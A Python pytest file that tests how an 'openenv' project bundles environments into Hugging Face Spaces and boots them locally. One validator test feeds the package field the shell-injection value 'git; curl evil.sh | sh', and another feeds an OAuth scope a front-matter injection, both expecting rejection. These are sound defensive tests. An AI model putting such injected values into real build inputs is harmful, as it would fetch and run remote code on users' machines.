"""Space bundles: what the Hub would receive, and the bundle booting exactly as the Space would.

The boot tests run the Dockerfile's CMD with its ENV (``$PORT`` set to a free port) from the
bundle directory, with the interpreter of a clean virtualenv that holds only the bundle's
``requirements.txt`` (cached under ~/.cache/openenv-playground/, keyed by the requirements'
hash). No Docker engine is needed: the container's only job is to run that command.
"""

from __future__ import annotations

import contextlib
import os
import re
import subprocess
import tomllib
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from conftest import ROOT, free_port, server_process, step_down_in_the_playground
from packaging.requirements import Requirement
from venvs import clean_python

from openenv.core.registry import discover
from openenv.hub.bundle import (
    HUB_COLORS,
    SHORT_DESCRIPTION_MAX,
    catalog_bundle,
    dockerfile_runtime,
    env_bundle,
    read_front_matter,
)


@contextlib.contextmanager
def boot_like_a_space(bundle: Path) -> Iterator[str]:
    """Run the Dockerfile's CMD, with its ENV and a free $PORT, from the bundle directory."""
    env_vars, cmd = dockerfile_runtime((bundle / "Dockerfile").read_text())
    python = clean_python(bundle / "requirements.txt")
    assert cmd[0] == "python", f"the Space's CMD should start with python, got {cmd}"
    port = free_port()
    container_only = {"PATH", "HOME"}  # they describe the image's filesystem, not this machine
    env = {k: v for k, v in env_vars.items() if k not in container_only}
    env.update(PORT=str(port), PATH=f"{python.parent}:/usr/bin:/bin", HOME=str(bundle.parent))
    with server_process([str(python), *cmd[1:]], port, cwd=bundle, env=env) as url:
        yield url


@pytest.fixture(scope="module")
def grid_bundle(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("space") / "grid_world"
    env_bundle(ROOT / "envs" / "grid_world_env", out, repo_id="someone/grid-world")
    return out


@pytest.fixture(scope="module")
def catalog(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("space") / "catalog"
    catalog_bundle(ROOT / "envs", out, repo_id="someone/playground")
    return out


@pytest.fixture(scope="module")
def small_catalog(tmp_path_factory) -> Path:
    """The catalog Space of two envs without extras: it boots in the grid world's virtualenv
    (the full catalog's extras are checked above; installing them all here takes minutes)."""
    envs = tmp_path_factory.mktemp("envs")
    for package in ("grid_world_env", "maze_env"):
        (envs / package).symlink_to(ROOT / "envs" / package)
    out = tmp_path_factory.mktemp("space") / "small_catalog"
    catalog_bundle(envs, out, repo_id="someone/playground")
    return out


def _front_matter(bundle: Path) -> dict:
    return read_front_matter((bundle / "README.md").read_text(encoding="utf-8"))


def test_env_space_readme_has_the_hub_front_matter(grid_bundle: Path) -> None:
    meta = _front_matter(grid_bundle)
    assert meta["sdk"] == "docker"
    assert meta["base_path"] == "/web"
    assert meta["tags"][0] == "openenv" and "grid" in meta["tags"]
    assert meta["title"] == "Grid World" and meta["emoji"] == "🤖"
    assert meta["colorFrom"] in HUB_COLORS and meta["colorTo"] in HUB_COLORS
    assert 0 < len(meta["short_description"]) <= SHORT_DESCRIPTION_MAX
    assert 'GridWorldEnv.from_env("someone/grid-world")' in (grid_bundle / "README.md").read_text()


def test_dockerfile_serves_the_front_matter_port_as_user_1000(grid_bundle: Path) -> None:
    dockerfile = (grid_bundle / "Dockerfile").read_text()
    port = _front_matter(grid_bundle)["app_port"]
    env, cmd = dockerfile_runtime(dockerfile)
    assert dockerfile.startswith("#") and "\nFROM python:3.11-slim\n" in dockerfile
    assert re.search(r"useradd .*--uid 1000 user", dockerfile) and "\nUSER user\n" in dockerfile
    assert env["PORT"] == str(port) and env["HOST"] == "0.0.0.0"
    assert f"\nEXPOSE {port}\n" in dockerfile
    assert "HEALTHCHECK" in dockerfile and "/health" in dockerfile
    assert "pip install --no-cache-dir --user -r requirements.txt" in dockerfile
    assert cmd == ["python", "app.py"]


def test_bundle_vendors_the_framework_and_the_env(grid_bundle: Path) -> None:
    files = set(
        (grid_bundle / p).relative_to(grid_bundle).as_posix() for p in os.listdir(grid_bundle)
    )
    assert {"Dockerfile", "README.md", "app.py", "requirements.txt", "openenv"} <= files
    assert (grid_bundle / "openenv" / "server" / "app.py").is_file()
    assert (grid_bundle / "openenv" / "web" / "playground.py").is_file()  # the installed layout
    for asset in (ROOT / "assets").glob("*.*"):
        vendored = grid_bundle / "openenv" / "web" / "assets" / asset.name
        assert vendored.read_bytes() == asset.read_bytes()
    assert (grid_bundle / "envs" / "grid_world_env" / "openenv.yaml").is_file()
    assert not list(grid_bundle.rglob("__pycache__"))
    reqs = (grid_bundle / "requirements.txt").read_text().split()
    assert any(r.startswith("gradio==") for r in reqs) and any(
        r.startswith("fastapi==") for r in reqs
    )


def test_catalog_space_lists_every_env_and_opens_on_the_landing_page(catalog: Path) -> None:
    meta = _front_matter(catalog)
    assert meta["sdk"] == "docker" and meta["base_path"] == "/" and "openenv" in meta["tags"]
    readme = (catalog / "README.md").read_text()
    for env_dir in (ROOT / "envs").glob("*/openenv.yaml"):
        assert (catalog / "envs" / env_dir.parent.name / "openenv.yaml").is_file()
    assert "https://someone-playground.hf.space/envs/grid_world" in readme
    assert (catalog / "app.py").read_text() == (ROOT / "app.py").read_text()
    reqs = (catalog / "requirements.txt").read_text().split()
    project = tomllib.loads((ROOT / "pyproject.toml").read_text())["project"]
    for extra in {e.extra for e in discover(ROOT / "envs") if e.extra}:
        for dependency in project["optional-dependencies"][extra]:
            name = Requirement(dependency).name
            assert any(Requirement(r).name == name for r in reqs), f"{extra}: {name} missing"


@pytest.mark.slow
@pytest.mark.browser
def test_env_bundle_boots_as_the_space_and_its_playground_plays(grid_bundle: Path, page) -> None:
    with boot_like_a_space(grid_bundle) as url:
        assert httpx.get(url + "/health").json() == {"status": "healthy"}
        assert httpx.get(url + "/schema").json()["action"]["title"] == "GridWorldAction"
        page.goto(url + "/web/")
        step_down_in_the_playground(page)
        assert not page.external_requests, page.external_requests
        assert not page.console_errors, page.console_errors


@pytest.mark.slow
def test_env_bundle_runs_the_vendored_framework(grid_bundle: Path) -> None:
    python = clean_python(grid_bundle / "requirements.txt")
    where = subprocess.run(
        [str(python), "-c", "import app, openenv, grid_world_env; "
         "print(openenv.__file__); print(grid_world_env.__file__)"],
        cwd=grid_bundle, env={"PATH": "/usr/bin:/bin", "PORT": "1"}, capture_output=True,
        text=True, check=True,
    )  # fmt: skip
    for line in where.stdout.split():
        assert Path(line).resolve().is_relative_to(grid_bundle.resolve()), line


@pytest.mark.slow
@pytest.mark.browser
def test_catalog_bundle_boots_as_the_space(small_catalog: Path, page) -> None:
    with boot_like_a_space(small_catalog) as url:
        envs = httpx.get(url + "/api/envs").json()
        assert any(e["name"] == "grid_world" and e["available"] for e in envs)
        assert httpx.get(url + "/envs/grid_world/health").json() == {"status": "healthy"}
        page.goto(url + "/")
        page.get_by_role("link", name=re.compile("Open playground")).first.wait_for()
        page.locator('.card[data-name="grid_world"] a.btn.primary').click()
        page.wait_for_url(re.compile(r"/envs/grid_world/web/"))
        step_down_in_the_playground(page)
        assert not page.console_errors, page.console_errors


def test_a_space_image_installs_the_debian_packages_its_envs_name(tmp_path):
    from openenv.core.manifest import Manifest
    from openenv.hub.bundle import env_bundle

    env_bundle(ROOT / "envs" / "browsergym_env", tmp_path / "browser")
    install = [line for line in (tmp_path / "browser" / "Dockerfile").read_text().splitlines()
               if "apt-get install" in line]  # fmt: skip
    assert install and {"chromium", "libatomic1"} <= set(install[0].split())
    with pytest.raises(ValueError, match="not a Debian package name"):
        Manifest(name="x", apt=["git; curl evil.sh | sh"])


def test_a_space_offers_sign_in_with_the_oauth_scopes_its_envs_name(tmp_path, catalog: Path):
    """Harbor's run card bills a visitor's Inference Providers calls to their own account: its
    Space (and the catalog serving it) has "Sign in with Hugging Face" with inference-api; an
    env naming no scope gets no sign-in, and a scope that is not a name is refused."""
    from openenv.core.manifest import Manifest
    from openenv.hub.bundle import env_bundle

    env_bundle(ROOT / "envs" / "harbor_env", tmp_path / "harbor")
    meta = _front_matter(tmp_path / "harbor")
    assert meta["hf_oauth"] is True and meta["hf_oauth_scopes"] == ["inference-api"]
    assert _front_matter(catalog)["hf_oauth_scopes"] == ["inference-api"]
    env_bundle(ROOT / "envs" / "grid_world_env", tmp_path / "grid")
    assert "hf_oauth" not in _front_matter(tmp_path / "grid")
    with pytest.raises(ValueError, match="not an OAuth scope name"):
        Manifest(name="x", hf_oauth_scopes=["inference-api\nsdk: gradio"])
